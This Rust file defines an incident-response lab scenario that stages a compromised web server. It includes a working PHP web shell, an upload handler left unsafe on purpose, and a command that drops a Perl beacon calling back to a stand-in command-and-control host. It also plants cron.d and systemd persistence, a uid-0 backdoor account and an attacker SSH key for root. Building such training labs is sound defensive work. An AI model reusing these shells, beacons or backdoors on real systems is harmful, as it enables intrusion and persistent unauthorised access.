//! A Perl beacon started by the web server through a web shell, with
//! cron.d and systemd persistence, a uid-0 account and an SSH key.

use super::{Entry, Innocent, Malicious, Proc, Scenario, Step, INIT};
use crate::host::lab::topology::{Host, Segment};

pub(super) static SCENARIO: Scenario = Scenario {
    name: "webshell",
    summary: "a Perl beacon in /var/tmp/.cache-x started by the web server through a web shell; cron.d and systemd persistence, a uid-0 account and an SSH key",
    story: "198.51.100.50 uploaded /var/www/html/uploads/.thumb.php through the upload form \
            of www (192.168.56.20:8080), then POSTed a command to it: the web server (httpd) \
            wrote /var/tmp/.cache-x/dbus-notify.pl and started it. The beacon checks in with \
            198.51.100.23:443 every 3 s. The attacker added /etc/cron.d/dbus-notify, \
            dbus-notify.service (enabled), the uid-0 account sysupdate and an SSH key for root. \
            www-logrotate (cron.d) and www-backup.service are the admins' own.",
    compromised: "www",
    victim: "198.51.100.23",
    victim_port: 443,
    services: &["192.168.56.20:22", "192.168.56.20:8080"],
    malicious: Malicious {
        processes: &[Proc {
            what: "the Perl beacon, child of the web server",
            pattern: "/var/tmp/.cache-x/dbus-notify.pl",
        }],
        files: &[
            "/var/tmp/.cache-x/dbus-notify.pl",
            "/var/www/html/uploads/.thumb.php",
        ],
        persistence: &[
            Entry {
                what: "cron.d job running the beacon",
                path: "/etc/cron.d/dbus-notify",
                line: None,
            },
            Entry {
                what: "systemd unit running the beacon",
                path: "/etc/systemd/system/dbus-notify.service",
                line: None,
            },
            Entry {
                what: "the unit's wants link (enabled)",
                path: "/etc/systemd/system/multi-user.target.wants/dbus-notify.service",
                line: None,
            },
        ],
        approval: &[
            Entry {
                what: "backdoor uid-0 account",
                path: "/etc/passwd",
                line: Some(WS_ACCOUNT),
            },
            Entry {
                what: "attacker's SSH key for root",
                path: "/root/.ssh/authorized_keys",
                line: Some(WS_BAD_KEY),
            },
        ],
    },
    innocent: Innocent {
        processes: &[
            INIT,
            Proc {
                what: "the web server (httpd) and sshd",
                pattern: "lab serve --role www",
            },
        ],
        files: &[
            "/etc/cron.d/www-logrotate",
            "/etc/systemd/system/www-backup.service",
            "/etc/systemd/system/multi-user.target.wants/www-backup.service",
            "/usr/local/bin/www-backup",
            "/var/www/html/index.html",
            "/var/www/html/upload.php",
            "/var/www/html/uploads/logo.png",
        ],
        flows: &[],
    },
    segments: &[
        Segment {
            name: "dmz",
            router_addr: "192.168.56.1/24",
            router_mac: "52:54:00:38:00:01",
        },
        Segment {
            name: "internet",
            router_addr: "198.51.100.1/24",
            router_mac: "52:54:00:64:00:01",
        },
    ],
    hosts: &[
        Host {
            name: "analyst",
            segment: Some("dmz"),
            addr: "192.168.56.100/24",
            mac: "52:54:00:38:00:64",
            serve: None,
            what: "the responder's seat",
        },
        Host {
            name: "www",
            segment: Some("dmz"),
            addr: "192.168.56.20/24",
            mac: "52:54:00:38:00:14",
            serve: Some("www"),
            what: "web server: ssh 22, http 8080 (httpd, web root /var/www/html); runs the beacon",
        },
        Host {
            name: "c2",
            segment: Some("internet"),
            addr: "198.51.100.23/24",
            mac: "52:54:00:64:00:17",
            serve: Some("c2"),
            what: "the attacker's command and control (443)",
        },
        Host {
            name: "attacker",
            segment: Some("internet"),
            addr: "198.51.100.50/24",
            mac: "52:54:00:64:00:32",
            serve: None,
            what: "where the web-shell requests come from",
        },
    ],
    steps: &[
        Step::Write {
            path: "/var/www/html/index.html",
            content: WS_INDEX,
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/var/www/html/upload.php",
            content: WS_UPLOAD,
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/var/www/html/uploads/logo.png",
            content: "\u{89}PNG\r\n\u{1a}\n(lab logo)\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/var/www/html/uploads/.thumb.php",
            content: "<?php if(isset($_POST['c'])){system($_POST['c']);} ?>\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/cron.d/www-logrotate",
            content: "# rotate the web logs\n17 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf >/dev/null 2>&1\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/cron.d/dbus-notify",
            content: "SHELL=/bin/sh\n*/5 * * * * root pgrep -f dbus-notify.pl >/dev/null || /usr/bin/perl /var/tmp/.cache-x/dbus-notify.pl >/dev/null 2>&1\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Write {
            path: "/usr/local/bin/www-backup",
            content: "#!/bin/sh\n# nightly copy of the web root\ntar -czf /var/backups/www.tgz -C /var/www html\n",
            mode: 0o755,
            owner: "root:root",
        },
        Step::Write {
            path: "/etc/systemd/system/www-backup.service",
            content: "[Unit]\nDescription=Copy of the web root\n\n[Service]\nType=oneshot\nExecStart=/usr/local/bin/www-backup\n\n[Install]\nWantedBy=multi-user.target\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Link {
            path: "/etc/systemd/system/multi-user.target.wants/www-backup.service",
            target: "/etc/systemd/system/www-backup.service",
        },
        Step::Write {
            path: "/etc/systemd/system/dbus-notify.service",
            content: "[Unit]\nDescription=D-Bus notification relay\nAfter=network-online.target\n\n[Service]\nExecStart=/usr/bin/perl /var/tmp/.cache-x/dbus-notify.pl\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=multi-user.target\n",
            mode: 0o644,
            owner: "root:root",
        },
        Step::Link {
            path: "/etc/systemd/system/multi-user.target.wants/dbus-notify.service",
            target: "/etc/systemd/system/dbus-notify.service",
        },
        Step::Append {
            path: "/etc/passwd",
            content: concat!("sysupdate:x:0:0:System Update:/root:/bin/bash", "\n"),
        },
        Step::Append {
            path: "/etc/shadow",
            content: "sysupdate:$6$Lab0nly$Jr1b0p6S0X2c3bDq1Yd3hQ0lS8f8I1a7k9mQ2n4p6r8t0v2x4z6B8D0F2H4J6L8N0P2R4T6V8X0Z2b4d6f8h0:20420:0:99999:7:::\n",
        },
        Step::Write {
            path: "/root/.ssh/authorized_keys",
            content: concat!(
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0YWRtaW4ta2V5LWZvci10aGUtbGFiLW9ubHkx admin@corp-laptop\n",
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN5c3VwZGF0ZS1iYWNrZG9vci1sYWItb25seTI sysupdate@198.51.100.23",
                "\n"
            ),
            mode: 0o600,
            owner: "root:root",
        },
        Step::Post {
            from: "attacker",
            to: "192.168.56.20:8080",
            path: "/uploads/.thumb.php",
            command: WS_DROP,
        },
        Step::WaitProc("/var/tmp/.cache-x/dbus-notify.pl"),
    ],
};

const WS_ACCOUNT: &str = "sysupdate:x:0:0:System Update:/root:/bin/bash";
const WS_BAD_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHN5c3VwZGF0ZS1iYWNrZG9vci1sYWItb25seTI sysupdate@198.51.100.23";
const WS_INDEX: &str = "<!DOCTYPE html>\n<html><head><title>Acme photo share</title></head>\n<body><h1>Acme photo share</h1><img src=\"/uploads/logo.png\"><a href=\"/upload.php\">upload</a></body></html>\n";
const WS_UPLOAD: &str = "<?php\n// photo upload (checks the extension only)\nif (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . $_FILES['f']['name']); echo \"stored\"; }\n?>\n<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"><input type=\"submit\"></form>\n";

/// The command the attacker POSTs to the web shell: write the beacon and
/// become it, so the web server is its parent.
const WS_DROP: &str = concat!(
    "mkdir -p /var/tmp/.cache-x && printf '%s' '",
    "#!/usr/bin/perl\n",
    "# dbus-notify: desktop notification relay\n",
    "use strict;\n",
    "use IO::Socket::INET;\n",
    "my ($h, $p) = (\"198.51.100.23\", 443);\n",
    "while (1) {\n",
    "    my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p, Proto => \"tcp\", Timeout => 5);\n",
    "    if ($s) { print $s \"HELO www\\n\"; my $c = <$s>; close($s); }\n",
    "    sleep 3;\n",
    "}\n",
    "' > /var/tmp/.cache-x/dbus-notify.pl && chmod 700 /var/tmp/.cache-x/dbus-notify.pl",
    " && exec /usr/bin/perl /var/tmp/.cache-x/dbus-notify.pl"
);
